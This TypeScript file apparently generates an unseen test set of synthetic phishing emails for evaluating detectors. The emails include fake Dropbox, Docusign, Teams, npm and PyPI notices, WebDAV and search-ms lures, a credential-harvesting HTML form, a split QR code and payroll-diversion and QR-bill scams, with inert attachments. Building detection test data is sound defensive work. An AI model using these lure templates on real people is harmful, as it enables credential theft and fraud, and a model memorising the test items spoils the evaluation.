// The sixth unseen phishing set: credential phishing through real services' own notifications (file
// shares, e-signature envelopes, calendar invitations, chat, meeting documents, design and developer
// hosting), attachments 2023–2026 campaigns moved to (WebDAV shortcuts, search-ms pages, Excel add-ins,
// compiled help, console files, forwarded messages, split QR codes, a QR bill in a PDF, an SVG with a
// link, an archive whose password is in the body), account lures for services the earlier sets left
// alone, a holiday-gift portal and a salary-account change, written from vendors' and CERTs' public descriptions of those campaigns without
// the analysers in sight, every message filled from the seed; the fraud, scams and local-language lures
// of the set are in unseen-6-fraud.ts and join these here. Every attacker's domain is reserved or made
// up; a real service's domain appears only where the attack sends through or hosts on that service;
// attachments are inert.
import type { SeededRandom } from './generate.js';
import { storedZip } from './mime.js';
import { qrJpeg, zipOf } from './payloads.js';
import { page, type UnseenMessage } from './unseen-3.js';
import { authResults, domainOf, type EncodedEntry, fillEncoded, uuid } from './unseen-4.js';
import { attach, combosquat, pdfAttachment, quotedHistory } from './unseen-5-parts.js';
import { FRAUD_ENTRIES } from './unseen-6-fraud.js';
import { consoleFile, helpFile, programStub, splitQr, webdavShortcut } from './unseen-6-parts.js';
import { invitation, protectedZip } from './unseen-payloads.js';

const PASS = ['pass', 'pass', 'pass'] as const;
const signed = (domain: string) => authResults(domain, [...PASS]);

const LURE_ENTRIES: EncodedEntry[] = [
  // Real file-share and e-signature services sending the attacker's content from their own domains.
  {
    kind: 'saas-notification-abuse',
    template: 'dropbox-share-pdf-onward-link',
    write: (s) => ({
      headers: s.headers(`${s.stranger.name} (via Dropbox)`, 'no-reply@dropbox.com', [
        `Reply-To: ${s.freemail(s.stranger)}`,
        signed('dropbox.com'),
      ]),
      subject: `${s.stranger.name} shared "${s.company} – Remittance ${s.digits(6)}.pdf" with you`,
      html: page(
        [
          `${s.stranger.name} shared a file with you.`,
          `<i>"${s.pick(['Please find remittance for the last two invoices, open the PDF and click view to access.', 'Updated statement attached in the PDF, use the secure link inside it to confirm.', 'Signed contract copy – the link in the document opens the full version.'])}"</i>`,
        ],
        [
          'View file',
          `https://www.dropbox.com/scl/fi/${s.token(21)}/Remittance.pdf?rlkey=${s.token(25)}&dl=0`,
        ],
        'Dropbox, Inc., PO Box 77767, San Francisco, CA 94107',
      ),
    }),
  },
  {
    kind: 'saas-notification-abuse',
    template: 'zoom-docs-shared-document',
    write: (s) => ({
      headers: s.headers(`${s.stranger.name} via Zoom Docs`, 'no-reply@zoom.us', [signed('zoom.us')]),
      subject: `${s.stranger.name} shared a doc with you: "${s.vendor.name} payment schedule"`,
      html: page(
        [
          `${s.stranger.name} (${s.stranger.email}) has invited you to view a doc.`,
          `<b>${s.vendor.name} payment schedule</b><br>"${s.victim.first}, please review the attached schedule and confirm on the portal linked in the doc before Friday."`,
        ],
        ['Open doc', `https://docs.zoom.us/doc/${s.token(22)}`],
        'Zoom Communications, Inc., 55 Almaden Blvd, San Jose, CA 95113',
      ),
    }),
  },
  {
    kind: 'esign-api-invoice',
    template: 'envelope-carrying-fake-invoice',
    write: (s) => {
      const brand = s.pick(['Norton LifeLock', 'PayPal', 'Geek Squad Protection']);
      const invoice = s.digits(9);
      return {
        headers: s.headers(`${brand} via Docusign`, 'dse_NA4@docusign.net', [signed('docusign.net')]),
        subject: `Please DocuSign: ${brand} invoice #${invoice} – auto-renewal`,
        html: page(
          [
            `${brand} sent you a document to review and sign.`,
            `<b>Invoice #${invoice}</b><br>Plan: Total Protection – 3 years<br>Amount: $${s.money(399, 799)} charged to your account on file`,
            `If you did not authorise this renewal, call our billing department at <b>${s.phone()}</b> within 24 hours to cancel and receive a full refund. Do not sign if you dispute the charge.`,
          ],
          [
            'REVIEW DOCUMENT',
            `https://na4.docusign.net/Signing/EmailStart.aspx?a=${uuid(s)}&etti=24&acct=${uuid(s)}&er=${uuid(s)}`,
          ],
          'Do Not Share This Email: this email contains a secure link to Docusign.',
        ),
      };
    },
  },
  {
    kind: 'calendar-drawing-link',
    template: 'calendar-invite-google-drawing',
    write: (s) => {
      const drawing = `https://docs.google.com/drawings/d/1${s.token(43)}/view`;
      const organizer = `${s.token(8)}@${s.borrowed()}`;
      const title = `${s.company} – Outstanding invoice review`;
      return {
        headers: s.headers(`${s.vendor.name} (Google Calendar)`, 'calendar-notification@google.com', [
          `Reply-To: ${organizer}`,
          signed('google.com'),
        ]),
        subject: `Invitation: ${title} @ ${s.pick(['Tue', 'Wed', 'Thu'])} ${9 + s.below(8)}am (GMT)`,
        text: `${s.vendor.name} has invited you to a meeting.\n\nInvoice summary and payment confirmation:\n${drawing}\n\nInvitation from Google Calendar`,
        parts: [
          attach(
            'text/calendar',
            'invite.ics',
            invitation({
              uid: `${s.token(26)}@google.com`,
              organizer,
              attendee: s.victim.email,
              summary: title,
              description: `Open the invoice summary before the call:\n${drawing}`,
              location: drawing,
              start: `202611${10 + s.below(18)}T${9 + s.below(8)}0000Z`,
            }),
          ),
        ],
      };
    },
  },
  {
    kind: 'teams-external-chat',
    template: 'external-tenant-chat-notification',
    write: (s) => {
      const tenant = s.pick(['msftprotection', 'securityteam-support', 'helpdesk-it']);
      return {
        headers: s.headers(`Microsoft Teams`, 'noreply@email.teams.microsoft.com', [
          signed('email.teams.microsoft.com'),
        ]),
        subject: `You have a new message from Microsoft Security (External)`,
        html: page(
          [
            `<b>Microsoft Security (External)</b> sent you a message in Teams:`,
            `<i>"Hello ${s.victim.first}, we detected unusual activity on your account and your sign-in will be restricted today. Please verify your device here: https://${s.host('teams', 'verify')}/d/${s.token(8)} – Microsoft Security Team"</i>`,
            `This person is external to your organization (${tenant}.onmicrosoft.com).`,
          ],
          [
            'Reply in Teams',
            `https://teams.microsoft.com/l/chat/19:${s.hex(32)}@unq.gbl.spaces/conversations`,
          ],
          'Microsoft Corporation, One Microsoft Way, Redmond, WA 98052',
        ),
      };
    },
  },
  // Attacker pages on developer and design platforms' own hosting.
  {
    kind: 'dev-hosting-page',
    template: 'compromised-sender-pages-dev',
    write: (s) => {
      const site = s.borrowed();
      return {
        headers: s.headers(s.stranger.name, `${s.stranger.first.toLowerCase()}@${site}`, [signed(site)]),
        subject: `RFP documents – ${s.company} (${s.digits(3)} pages)`,
        text: [
          `Hello ${s.victim.first},`,
          '',
          `Following our call, the RFP package is ready for you. It is protected with a quick check to keep bots out;`,
          'confirm the check and sign in with your work email to open it:',
          '',
          `https://${s.pick(['doc', 'rfp', 'secure'])}-${s.token(6)}.pages.dev/?v=${Buffer.from(s.victim.email).toString('base64')}`,
          '',
          'Best,',
          s.stranger.name,
        ].join('\n'),
      };
    },
  },
  {
    kind: 'dev-hosting-page',
    template: 'storage-bucket-dev-subdomain',
    transfer: 'base64',
    write: (s) => {
      const domain = s.host('docs', 'center');
      return {
        headers: s.headers('Document Center', `no-reply@${domain}`, [
          authResults(domain, ['softfail', 'none', 'none']),
        ]),
        subject: `${s.victim.first}, 1 encrypted message is waiting for you`,
        html: page(
          [
            `You have received an encrypted message from <b>${s.boss.name}</b>.`,
            'To read it, open the secure viewer and verify your identity with your organisation account.',
          ],
          ['Read the message', `https://pub-${s.hex(32)}.r2.dev/viewer.html#${s.victim.email}`],
          'Secured by Message Encryption',
        ),
      };
    },
  },
  {
    kind: 'design-platform-page',
    template: 'canva-hosted-proposal',
    write: (s) => ({
      headers: s.headers(s.stranger.name, s.stranger.email, [signed(s.vendor.domain)]),
      subject: `${s.vendor.name} – proposal for ${s.company}`,
      html: page(
        [
          `Hi ${s.victim.first},`,
          `I've shared our 2027 proposal with you as a presentation. Click "View proposal" inside to open the full PDF with your ${s.company} email.`,
          `Regards,<br>${s.stranger.name}`,
        ],
        ['Open presentation', `https://www.canva.com/design/DAG${s.token(8)}/${s.token(22)}/view`],
      ),
    }),
  },
  {
    kind: 'scheduling-lure',
    template: 'recruiter-booking-page-google-sign-in',
    write: (s) => {
      const brand = s.pick(['Vireo Motors', 'Halcyon Foods', 'Quantis Media']);
      const domain = `${brand.split(' ')[0].toLowerCase()}-careers.test`;
      return {
        headers: s.headers(
          `${s.stranger.name} | ${brand} Talent`,
          `${s.stranger.first.toLowerCase()}@${domain}`,
          [authResults(domain, ['pass', 'pass', 'none'])],
        ),
        subject: `${brand} – ${s.pick(['Head of Marketing', 'Senior Brand Manager', 'Director of Digital'])} opportunity`,
        text: [
          `Hi ${s.victim.first},`,
          '',
          `I lead talent acquisition at ${brand}. Your background stood out and I'd love a 20-minute call about a`,
          'senior role we have not advertised yet. You can pick a time that suits you here:',
          '',
          `https://calendly.${s.host('schedule')}/${s.stranger.first.toLowerCase()}-${brand.split(' ')[0].toLowerCase()}/20min`,
          '',
          '(You will be asked to continue with Google to sync the booking with your calendar.)',
          '',
          'Best regards,',
          s.stranger.name,
        ].join('\n'),
      };
    },
  },
  // Account lures that the earlier sets did not carry.
  {
    kind: 'passkey-downgrade',
    template: 'security-key-removed-sign-in-with-password',
    write: (s) => ({
      headers: s.headers(`${s.company} Identity`, `identity@${combosquat(s, 'corp.example')}`),
      subject: 'Your passkey has been deactivated – sign in with your password to restore it',
      html: page(
        [
          `Hi ${s.victim.first},`,
          'During the identity platform upgrade last night, passkeys and security keys registered before 1 October were deactivated.',
          'Sign in once with your password and the verification code sent to your phone; your passkey is restored automatically afterwards.',
        ],
        [
          'Restore my passkey',
          `https://${s.host('sso', 'passkey')}/restore?u=${encodeURIComponent(s.victim.email)}`,
        ],
        `${s.company} Identity & Access Management`,
      ),
    }),
  },
  {
    kind: 'package-registry',
    template: 'npm-two-factor-update',
    write: (s) => ({
      headers: s.headers('npm', 'support@npmjs-help.test', [authResults('npmjs-help.test', [...PASS])]),
      subject: 'Two-Factor Authentication Update Required',
      text: [
        `Hi, ${s.victim.first.toLowerCase()}${s.digits(2)}!`,
        '',
        'As part of our ongoing commitment to account security, we are asking all users to update their Two-Factor',
        'Authentication (2FA) credentials. Our records indicate that it has been over 12 months since your last 2FA',
        `update. Please update by ${s.pick(['September 10, 2026', 'December 10, 2026'])} or your account will be temporarily locked.`,
        '',
        `Update 2FA now: https://www.npmjs-help.test/settings/${s.victim.first.toLowerCase()}/tfa?token=${s.token(32)}`,
        '',
        'Thanks,',
        'The npm Team',
      ].join('\n'),
    }),
  },
  {
    kind: 'package-registry',
    template: 'pypi-email-verification',
    write: (s) => ({
      headers: s.headers(
        'PyPI',
        `noreply@${s.pick(['pypi-mirror.test', 'pypj.test', 'pypi.org.example.net'])}`,
      ),
      subject: '[PyPI] Email verification',
      html: page(
        [
          'Due to ongoing maintenance and security procedures, all PyPI users must verify their email address within 7 days.',
          `Account: <b>${s.victim.first.toLowerCase()}-${s.token(3)}</b>`,
          'Accounts and projects that are not verified may be suspended.',
        ],
        ['Verify email', `https://${s.host('pypi', 'verify')}/account/verify-email/?token=${s.token(40)}`],
        'The Python Package Index',
      ),
    }),
  },
  {
    kind: 'admin-alert',
    template: 'defender-forwarding-rule-alert',
    write: (s) => {
      const domain = s.host('microsoft', 'alerts');
      return {
        headers: s.headers('Microsoft Defender', `defender-noreply@${domain}`, [
          authResults(domain, ['fail', 'none', 'fail']),
        ]),
        subject: `High-severity alert: Suspicious inbox forwarding rule created for ${s.victim.email}`,
        html: page(
          [
            '<b>Suspicious email forwarding activity</b>',
            `Severity: High<br>User: ${s.victim.email}<br>Rule: forward all messages to ${s.token(7)}@${s.pick(['proton.example', 'tutanota.example'])}<br>Time: ${s.pick(['02:14', '03:41', '04:07'])} UTC`,
            'If you did not create this rule, remove it immediately and reconfirm your account to stop the forwarding.',
          ],
          ['Investigate and remove rule', `https://${s.host('security', 'defender')}/alerts/${uuid(s)}`],
          'Microsoft Defender for Office 365',
        ),
      };
    },
  },
  {
    kind: 'breach-notice',
    template: 'password-found-in-leak',
    transfer: 'quoted-printable',
    write: (s) => {
      const masked = `${s.victim.first.slice(0, 2)}${'•'.repeat(6)}${s.digits(2)}`;
      return {
        headers: s.headers('Credential Watch', `alerts@${s.host('breach', 'monitor')}`),
        subject: `Your ${s.company} password was found in a data leak`,
        text: [
          `${s.victim.email}`,
          '',
          `Our dark-web monitoring found your work password (${masked}) in a combo list published on ${s.pick(['3 November', '29 October', '1 November'])}.`,
          'Criminals use such lists to take over mailboxes within days.',
          '',
          `Check what was exposed and secure your account: https://${s.host('leak', 'check')}/r/${s.token(10)}`,
          '',
          'Credential Watch – automated security notification',
        ].join('\n'),
      };
    },
  },
  {
    kind: 'ads-account',
    template: 'ads-account-suspended',
    write: (s) => {
      const domain = s.host('ads', 'google');
      return {
        headers: s.headers('Google Ads', `ads-account-noreply@${domain}`, [
          authResults(domain, ['pass', 'none', 'none']),
        ]),
        subject: `Your Google Ads account ${s.digits(3)}-${s.digits(3)}-${s.digits(4)} has been suspended`,
        html: page(
          [
            `Hello ${s.company},`,
            'Your Google Ads account has been suspended for circumventing systems. Your ads will not run while your account is suspended.',
            'If you believe this is an error, submit an appeal within 48 hours. Appeals require verifying account ownership.',
          ],
          ['Submit an appeal', `https://${s.host('ads', 'appeal')}/aw/appeal?ocid=${s.digits(9)}`],
          'Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043',
        ),
      };
    },
  },
  {
    kind: 'web-hosting',
    template: 'cpanel-account-disabled',
    transfer: 'base64',
    write: (s) => {
      const site = s.pick(['corp-example.example', `${s.company.split(' ')[0].toLowerCase()}.example`]);
      return {
        headers: s.headers('cPanel', `cpanel@${s.borrowed()}`),
        subject: `[${site}] Your hosting account will be disabled`,
        text: [
          `The hosting account for ${site} has been flagged for disabling due to a failed payment and unusual`,
          'resource usage. Your website, email and databases will be disabled on the next billing cycle.',
          '',
          `To keep the account active, log in to cPanel and confirm your billing details: https://${s.host('cpanel', 'billing')}:2083/login/?user=${site.split('.')[0]}`,
          '',
          `This notice is automatically generated by cPanel on server ${s.token(3)}${s.digits(2)}.hostserver.example.`,
        ].join('\n'),
      };
    },
  },
  {
    kind: 'esim-transfer',
    template: 'esim-transfer-requested',
    write: (s) => ({
      headers: s.headers(
        s.pick(['Vodafone', 'T-Mobile', 'Orange']),
        `service@${s.host('mobile', 'account')}`,
      ),
      subject: 'eSIM transfer request for your number',
      html: page(
        [
          `We received a request to transfer your mobile number ending in ${s.digits(3)} to a new eSIM on ${s.pick(['an iPhone 16', 'a Galaxy S25', 'a Pixel 9'])}.`,
          'If you made this request, no action is needed; the transfer completes in 2 hours. If this was not you, cancel the transfer now to keep your number.',
        ],
        ['Cancel transfer', `https://${s.host('esim', 'cancel')}/c/${s.token(10)}`],
      ),
    }),
  },
  {
    kind: 'restructuring-notice',
    template: 'organisation-changes-lookalike-portal',
    write: (s) => {
      const domain = combosquat(s, 'corp.example');
      return {
        headers: s.headers(`${s.company} People Team`, `people@${domain}`, [
          authResults(domain, ['pass', 'pass', 'none']),
        ]),
        subject: 'Confidential: organisational changes – please review your status',
        html: page(
          [
            `Dear ${s.victim.first},`,
            `As announced by ${s.boss.name}, ${s.company} is restructuring several teams. Affected roles and the support available have been published on the HR portal.`,
            "Please review your individual status before tomorrow's town hall. The document is restricted to you.",
          ],
          ['View my status', `https://${s.host('hr', 'people')}/restructure/${s.token(8)}`],
          'Strictly private and confidential',
        ),
      };
    },
  },
  // Attachments that do the work.
  {
    kind: 'internet-shortcut',
    template: 'webdav-shortcut-in-zip',
    write: (s) => {
      const invoice = s.digits(6);
      const shortcut = webdavShortcut(
        `Invoice_${invoice}.url`,
        s.host('dav', 'files'),
        `invoice_${invoice}.pdf.lnk`,
      );
      return {
        headers: s.headers(`${s.vendor.name} Billing`, `billing@${s.borrowed()}`),
        subject: `Invoice ${invoice} – ${s.company}`,
        text: `Hello,\n\nPlease see the attached invoice and confirm receipt.\n\nRegards,\n${s.vendor.name} Billing`,
        parts: [
          attach('application/zip', `Invoice_${invoice}.zip`, storedZip(shortcut.name, shortcut.content)),
        ],
      };
    },
  },
  {
    kind: 'search-protocol',
    template: 'html-opens-search-window',
    write: (s) => {
      const host = s.host('share', 'dav');
      const from = s.freemail(s.stranger);
      const order = s.digits(5);
      return {
        headers: s.headers(s.stranger.name, from, [authResults(domainOf(from), ['pass', 'pass', 'pass'])]),
        subject: `RE: order ${order} – documents`,
        text: 'Here are the order documents. Open the attachment to view them.',
        parts: [
          attach(
            'text/html',
            `Order_${order}.html`,
            `<html><head><meta http-equiv="refresh" content="0;url=search:query=order&crumb=location:%5C%5C${host}@SSL%5CDavWWWRoot%5Corders&displayname=Downloads"></head><body>Loading documents…</body></html>`,
          ),
        ],
      };
    },
  },
  {
    kind: 'excel-addin',
    template: 'price-list-xll',
    write: (s) => ({
      headers: s.headers(`${s.stranger.name} – Purchasing`, `purchasing@${s.host('trading')}`),
      subject: `Price list and enquiry ${s.pick(['Q1 2027', 'December', 'updated'])}`,
      text: [
        'Dear Sir/Madam,',
        '',
        'Please find our enquiry and the price list attached. Kindly quote your best price and delivery time.',
        'Open the file in Excel and enable the add-in to view the price table.',
        '',
        `Regards,\n${s.stranger.name}`,
      ].join('\n'),
      parts: [programStub('application/vnd.ms-excel', `Price_List_${s.digits(4)}.xll`)],
    }),
  },
  {
    kind: 'help-file',
    template: 'tax-notice-chm-korean',
    transfer: 'base64',
    write: (s) => ({
      headers: s.headers('국세청', `notice@${s.host('nts', 'tax')}`),
      subject: `[국세청] ${s.victim.last} 님 종합소득세 신고 안내`,
      text: [
        `${s.victim.name} 님,`,
        '',
        '2026년 귀속 종합소득세 신고 내역에 누락된 항목이 있어 안내드립니다.',
        '첨부된 안내문을 열어 내용을 확인하시고 기한 내에 소명 자료를 제출해 주시기 바랍니다.',
        '',
        '국세청 납세자보호담당관',
      ].join('\n'),
      parts: [helpFile('종합소득세_안내문.chm')],
    }),
  },
  {
    kind: 'console-file',
    template: 'msc-in-zip-contract',
    write: (s) => ({
      headers: s.headers(s.stranger.name, s.stranger.email, [
        authResults(s.vendor.domain, ['fail', 'none', 'fail']),
      ]),
      subject: `Contract draft ${s.company} – ${s.vendor.name}`,
      text: `Hi ${s.victim.first},\n\nAs agreed, the draft contract is attached. The viewer opens it directly.\n\n${s.stranger.name}`,
      parts: [
        attach(
          'application/zip',
          'Contract_Draft.zip',
          storedZip('Contract_Draft.pdf.msc', consoleFile('Contract_Draft.pdf.msc').content),
        ),
      ],
    }),
  },
  {
    kind: 'attached-message',
    template: 'forwarded-eml-with-login-page',
    write: (s) => {
      const site = s.borrowed();
      const inner = [
        'From: "Microsoft 365" <no-reply@sharepointonline.example>',
        `To: ${s.victim.email}`,
        'Subject: Document shared with you',
        'MIME-Version: 1.0',
        'Content-Type: text/html; charset=utf-8',
        '',
        `<html><body><p>${s.boss.name} shared "Q4 Bonus Structure.xlsx" with you.</p><p><a href="https://${s.host('sharepoint', 'view')}/x/${s.token(12)}">Open</a></p></body></html>`,
        '',
      ].join('\r\n');
      return {
        headers: s.headers(s.boss.name, `${s.boss.first.toLowerCase()}@${site}`, [
          authResults(site, ['pass', 'none', 'none']),
        ]),
        subject: `Fw: ${s.pick(['Q4 Bonus Structure', 'Document shared with you'])}`,
        text: `${s.victim.first}, see the attached message – please open the file and check it before our call.\n\n${s.boss.first}`,
        parts: [attach('application/octet-stream', 'Document shared with you.eml', inner)],
      };
    },
  },
  {
    kind: 'double-extension',
    template: 'bill-of-lading-exe-in-zip',
    write: (s) => {
      const bl = `${s.pick(['MAEU', 'MSCU', 'CMAU'])}${s.digits(9)}`;
      return {
        headers: s.headers(
          `${s.pick(['Maersk', 'MSC', 'CMA CGM'])} Documentation`,
          `docs@${s.host('shipping', 'line')}`,
        ),
        subject: `Draft B/L ${bl} – please confirm before sailing`,
        text: [
          'Dear Customer,',
          '',
          `Please find attached the draft Bill of Lading ${bl} for your shipment. Kindly check the consignee and`,
          'notify party details and confirm within 24 hours, otherwise the original B/L will be issued as drafted.',
          '',
          'Best regards,',
          'Export Documentation Team',
        ].join('\n'),
        parts: [
          attach('application/zip', `BL_${bl}.zip`, zipOf(`BL_${bl}_DRAFT.pdf                    .exe`)),
        ],
      };
    },
  },
  {
    kind: 'split-qr',
    template: 'document-access-split-qr',
    write: async (s) => {
      const qr = await splitQr(`https://${s.host('docs', 'access')}/q/${s.token(10)}`, `code${s.digits(4)}`);
      return {
        headers: s.headers('Document Access', `noreply@${s.host('docs', 'notify')}`),
        subject: `${s.victim.first}: ${s.pick(['2026 compensation statement', 'signed agreement', 'pending document'])} awaiting your review`,
        html: `${page([`Hello ${s.victim.first},`, 'A document has been shared with you and is awaiting your review. For security, it can only be opened from a mobile device: scan the code below with your phone camera.'])}${qr.html}`,
        parts: qr.parts,
      };
    },
  },
  {
    kind: 'quotation-request',
    template: 'rfq-html-webmail-login',
    write: (s) => {
      const rfq = `RFQ-${s.digits(5)}`;
      return {
        headers: s.headers(
          `${s.stranger.name} | Procurement`,
          `procurement@${s.host('industrial', 'group')}`,
        ),
        subject: `Request for Quotation ${rfq} – ${s.company}`,
        text: [
          'Good day,',
          '',
          `We are interested in your products and would like to request a quotation for the items in the attached RFQ.`,
          'The file opens in your browser; sign in with your email to view the item list.',
          '',
          'Kind regards,',
          s.stranger.name,
        ].join('\n'),
        parts: [
          attach(
            'text/html',
            `${rfq}.html`,
            `<html><body style="font-family:Arial"><h3>Document protected</h3><p>Sign in with your email to view RFQ</p><form action="https://${s.host('rfq', 'view')}/post.php" method="post"><input name="email" value="${s.victim.email}"><input name="password" type="password"><button>View RFQ</button></form></body></html>`,
          ),
        ],
      };
    },
  },
  {
    kind: 'protected-archive',
    template: 'tax-advisor-protected-zip-german',
    transfer: 'quoted-printable',
    write: (s) => {
      const password = `${s.pick(['Kanzlei', 'Steuer', 'Mandant'])}${s.digits(4)}`;
      const firm = s.pick([
        'Steuerberatung Weiss & Partner',
        'Kanzlei Brandt Steuerberater',
        'StB Lorenz mbB',
      ]);
      return {
        headers: s.headers(firm, `kanzlei@${s.borrowed()}`),
        subject: `Ihre Unterlagen zum Jahresabschluss 2025 – ${s.company}`,
        text: [
          'Sehr geehrte Damen und Herren,',
          '',
          'anbei übersenden wir Ihnen die angeforderten Unterlagen zum Jahresabschluss. Aus Datenschutzgründen ist',
          `das Archiv verschlüsselt. Das Kennwort lautet: ${password}`,
          '',
          'Bitte prüfen Sie die Unterlagen und geben Sie uns bis Freitag Rückmeldung.',
          '',
          'Mit freundlichen Grüßen',
          firm,
        ].join('\n'),
        parts: [
          attach(
            'application/zip',
            'Jahresabschluss_2025.zip',
            protectedZip('Jahresabschluss_2025.pdf.js', s.below(1_000)),
          ),
        ],
      };
    },
  },
  {
    kind: 'qr-payment-bill',
    template: 'swiss-qr-bill-pdf',
    write: async (s) => {
      const amount = s.money(180, 2_400).replace(',', '');
      const iban = `CH${s.digits(2)}30000${s.digits(12)}`;
      const payload = [
        'SPC',
        '0200',
        '1',
        iban,
        'S',
        'Inkasso Zentrum Ost',
        'Bahnhofstrasse',
        '12',
        '8001',
        'Zürich',
        'CH',
        '',
        '',
        '',
        '',
        '',
        '',
        '',
        amount,
        'CHF',
        'S',
        s.company,
        '',
        '',
        '',
        '',
        'CH',
        'NON',
        '',
        `Mahnung ${s.digits(6)}`,
        'EPD',
      ].join('\n');
      return {
        headers: s.headers('Inkasso Zentrum Ost', `mahnung@${s.host('inkasso', 'ost')}`),
        subject: `2. Mahnung – offener Betrag CHF ${amount}`,
        text: [
          'Sehr geehrte Damen und Herren,',
          '',
          `trotz unserer ersten Zahlungserinnerung ist der Betrag von CHF ${amount} noch offen. Bitte begleichen Sie`,
          'ihn innert 5 Tagen mit dem beiliegenden QR-Einzahlungsschein, um eine Betreibung zu vermeiden.',
          '',
          'Freundliche Grüsse',
          'Inkasso Zentrum Ost',
        ].join('\n'),
        parts: [
          pdfAttachment(
            `Mahnung_${s.digits(6)}.pdf`,
            [
              'Zahlteil – QR-Rechnung',
              `Konto / Zahlbar an: ${iban}`,
              `Betrag: CHF ${amount}`,
              `Zahlbar durch: ${s.company}`,
            ],
            { jpeg: await qrJpeg(payload) },
          ),
        ],
      };
    },
  },
  {
    kind: 'holiday-gift-portal',
    template: 'year-end-gift-choose-brand',
    write: (s) => ({
      headers: s.headers(`${s.company} Rewards`, `rewards@${combosquat(s, 'corp.example')}`),
      subject: `${s.victim.first}, your 2026 holiday gift is ready to claim`,
      html: page(
        [
          `Hi ${s.victim.first},`,
          `To thank everyone for this year, ${s.company} is giving each employee a $${s.pick(['100', '150', '250'])} gift card. Choose from over 200 brands on our rewards portal.`,
          'Sign in with your work account to claim it before 20 December; unclaimed gifts return to the budget.',
        ],
        [
          'Claim my gift',
          `https://${s.host('rewards', 'gift')}/claim?e=${encodeURIComponent(s.victim.email)}`,
        ],
        `${s.company} People Team · Rewards powered by GiftHub`,
      ),
    }),
  },
  {
    kind: 'payroll-diversion',
    template: 'changement-rib-salaire-pdf',
    transfer: 'quoted-printable',
    write: (s) => {
      const from = s.freemail(s.colleague);
      return {
        headers: s.headers(s.colleague.name, from, [authResults(domainOf(from), ['pass', 'pass', 'pass'])]),
        subject: 'Changement de RIB pour le virement du salaire',
        text: [
          'Bonjour,',
          '',
          "J'ai changé de banque ce mois-ci. Pourriez-vous prendre en compte mon nouveau RIB (en pièce jointe) pour le",
          'virement du salaire de novembre ? Je vous écris depuis mon adresse personnelle car je suis en déplacement.',
          '',
          'Merci beaucoup,',
          s.colleague.name,
        ].join('\n'),
        parts: [
          pdfAttachment('RIB.pdf', [
            "RELEVE D'IDENTITE BANCAIRE",
            `Titulaire : ${s.colleague.name.toUpperCase()}`,
            `IBAN : FR76 1659 8000 01${s.digits(2)} ${s.digits(4)} ${s.digits(4)} ${s.digits(3)}`,
            'BIC : FPELFR21XXX',
          ]),
        ],
      };
    },
  },
  {
    kind: 'svg-attachment',
    template: 'svg-spreadsheet-preview-link',
    write: (s) => {
      const url = `https://${s.host('sheets', 'view')}/s/${s.token(10)}#${Buffer.from(s.victim.email).toString('base64')}`;
      return {
        headers: s.headers(
          `${s.boss.name} (via Excel Online)`,
          `${s.boss.first.toLowerCase()}@${s.borrowed()}`,
        ),
        subject: `${s.pick(['Q4 Budget', 'Salary Bands 2027', 'Headcount Plan'])}.xlsx`,
        text: `${s.victim.first}, please review the attached spreadsheet preview and update your figures online.`,
        parts: [
          attach(
            'image/svg+xml',
            'Spreadsheet_Preview.svg',
            `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="600" height="300"><rect width="600" height="300" fill="#f3f3f3"/><text x="40" y="60" font-size="22" fill="#217346">Microsoft Excel</text><text x="40" y="110" font-size="16">This spreadsheet is protected. Sign in to view.</text><a xlink:href="${url}"><rect x="40" y="150" width="200" height="44" fill="#217346"/><text x="70" y="178" font-size="16" fill="#fff">Open spreadsheet</text></a></svg>`,
          ),
        ],
      };
    },
  },
  // Approaches that carry nothing at first, or only a contact step.
  {
    kind: 'whatsapp-linking',
    template: 'official-group-invitation-qr',
    write: async (s) => {
      const official = s.pick([
        'Ministry of Foreign Affairs',
        'Parliamentary Office',
        'Embassy Liaison Office',
      ]);
      const qr = await splitQr(`https://chat.whatsapp.com/${s.token(22)}`, 'group');
      return {
        headers: s.headers(`${s.stranger.name} – ${official}`, s.freemail(s.stranger)),
        subject: 'Invitation: WhatsApp group on supporting NGOs',
        html: `${page([
          `Dear ${s.victim.first} ${s.victim.last},`,
          `I am reaching out on behalf of the ${official}. We are setting up a small WhatsApp group of experts on support for NGOs in the region, and your name was recommended.`,
          'To join, please scan the QR code below with WhatsApp on your phone. If the code does not work, reply and I will send you a new one.',
          `With kind regards,<br>${s.stranger.name}`,
        ])}${qr.html}`,
        parts: qr.parts,
      };
    },
  },
  {
    kind: 'rapport-building',
    template: 'think-tank-paper-review',
    write: (s) => ({
      headers: s.headers(
        `Dr. ${s.stranger.name}`,
        `${s.stranger.first.toLowerCase()}.${s.stranger.last.toLowerCase()}@${s.pick(['policy-institute.test', 'strategic-studies.example.net'])}`,
      ),
      subject: `Request for your comments on a paper on ${s.pick(['energy security', 'regional trade policy', 'supply chain resilience'])}`,
      text: [
        `Dear ${s.victim.first} ${s.victim.last},`,
        '',
        `I am a senior fellow at the institute and have followed your work at ${s.company} with great interest.`,
        'We are finishing a short paper for a closed round table next month and would value your comments on one',
        'section in particular. Would you be willing to take a look? I can share the draft in whichever way is most',
        'convenient for you.',
        '',
        'With best regards,',
        `Dr. ${s.stranger.name}`,
      ].join('\n'),
    }),
  },
  {
    kind: 'reply-hijack-late',
    template: 'months-old-thread-new-document',
    transfer: 'quoted-printable',
    write: (s) => ({
      headers: s.headers(s.stranger.name, s.stranger.email, [
        `In-Reply-To: <${s.hex(24)}@${s.vendor.domain}>`,
        signed(s.vendor.domain),
      ]),
      subject: `RE: ${s.vendor.name} / ${s.company} – annual pricing ${s.pick(['2025', '2026'])}`,
      text: [
        `Hi ${s.victim.first},`,
        '',
        'Picking this back up: the revised pricing sheet is now on our portal, please review before we finalise.',
        `https://${s.host('vendor', 'portal')}/d/${s.token(10)}`,
        '',
        'Thanks,',
        s.stranger.first,
        quotedHistory(
          s.victim.name,
          `${s.pick(['Tuesday, 4 March 2025', 'Friday, 11 April 2025'])} 16:02`,
          `${s.vendor.name} / ${s.company} – annual pricing`,
          [`Thanks ${s.stranger.first}, we will come back to you once budgets are approved.`],
        ),
      ].join('\n'),
    }),
  },
];

const ENTRIES: EncodedEntry[] = [...LURE_ENTRIES, ...FRAUD_ENTRIES];

export const UNSEEN_6_KINDS: readonly string[] = [...new Set(ENTRIES.map((e) => e.kind))];
export const UNSEEN_6_TEMPLATE_COUNT = ENTRIES.length;

export async function unseenPhishing6(
  perTemplate: number,
  seed: number,
  seededRandom: (seed: number) => SeededRandom,
): Promise<UnseenMessage[]> {
  return fillEncoded(ENTRIES, perTemplate, seed, seededRandom, 6_000_000);
}
